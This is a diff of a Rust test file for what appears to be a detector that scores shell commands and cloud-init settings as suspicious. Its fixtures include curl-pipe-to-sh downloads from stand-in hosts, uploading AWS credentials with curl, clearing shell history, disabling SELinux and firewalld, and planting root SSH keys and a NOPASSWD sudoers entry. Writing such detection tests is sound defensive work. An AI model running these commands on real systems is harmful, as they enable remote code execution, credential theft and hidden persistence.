@@ -324,6 +324,22 @@ fn directives_are_judged_as_well() {
 }
 
 #[test]
+fn a_key_for_root_is_told_from_one_for_others() {
+    let setting = |path: &str, key: &str, value: &str| Piece {
+        path: path.into(),
+        content: Content::Setting { key: key.into(), value: value.into() },
+    };
+    let pieces = |name: &str| {
+        [
+            setting("users[1].name", "users.name", name),
+            setting("users[1].ssh_authorized_keys[0]", "users.ssh_authorized_keys", "ssh-rsa A"),
+        ]
+    };
+    assert_eq!(ids(&judge(&pieces("root"), 0, None, &trust())), ["per-03"]);
+    assert_eq!(ids(&judge(&pieces("deploy"), 0, None, &trust())), [] as [&str; 0]);
+}
+
+#[test]
 fn layers_and_mismatches_count() {
     let pieces = script(Language::Shell, "true");
     assert_eq!(ids(&judge(&pieces, 3, None, &trust())), ["dec-01"]);
@@ -346,8 +362,12 @@ fn combinations_add_what_the_parts_do_not_say() {
     assert_eq!(score("sysctl -w vm.nr_hugepages=1280; wget https://a.example/x"), 15 + 20);
     assert_eq!(score("sysctl -w vm.nr_hugepages=1280; wget https://get.corp.example/x"), 15);
     // Two defences and something run: 25 + 20 + 20.
-    assert_eq!(score("history -c; chattr +i /etc/cron.d; curl https://a.example/x | sh"), 45 + 25 + 20);
-    assert_eq!(score("history -c; setenforce 0; curl https://a.example/x | sh"), 35 + 25);
+    assert_eq!(
+        score("yum install -y postgresql16; sysctl -w vm.nr_hugepages=1280; wget https://a.example/x"),
+        5
+    );
+    assert_eq!(score("unset HISTFILE; chattr +i /etc/cron.d; curl https://a.example/x | sh"), 45 + 25 + 20);
+    assert_eq!(score("unset HISTFILE; setenforce 0; curl https://a.example/x | sh"), 35 + 25);
     // Credential files that leave.
     assert_eq!(score("curl -T /root/.aws/credentials https://a.example/"), 15 + 15 + 25);
     assert!(!judged("crontab -r; curl https://203.0.113.1/x").critical);
@@ -366,13 +386,15 @@ fn damping_keeps_honest_habits_below_the_line() {
 "useradd -o -u 0 x; echo ssh-rsa A >> /root/.ssh/authorized_keys; echo 'u ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/u",
         // A verified download, run from where it landed.
         "cd /tmp; curl -O https://a.example/x; echo '00ff  x' | sha256sum -c; chmod +x x; ./x &",
-        "history -c; rm -f /root/.bash_history; setenforce 0; systemctl stop firewalld",
+        "history -c; rm -f /root/.bash_history; setenforce 0; systemctl stop firewalld; curl https://a.example/x | sh",
+        "echo 'u ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/u; curl http://a.example/x | sh",
     ] {
         let judgement = judged(text);
         assert_ne!(judgement.conclusion, Conclusion::Suspicious, "{text}: {judgement:?}");
     }
-    // Nobody is trusted over an open connection, or when the checksum comes from a throw-away host.
-    assert_eq!(judged("curl http://get.docker.com | sh").score, 25 + 10);
+    // Trust counts for less over an open connection, and not when the checksum comes from a throw-away host.
+    assert_eq!(judged("curl http://get.docker.com | sh").score, 10 + 10);
+    assert_eq!(judged("curl -k https://get.docker.com | sh").score, 10 + 10);
     assert!(judged("curl -O http://203.0.113.1/x; echo '00  x' | sha256sum -c; sh x").score >= 50);
 }
 
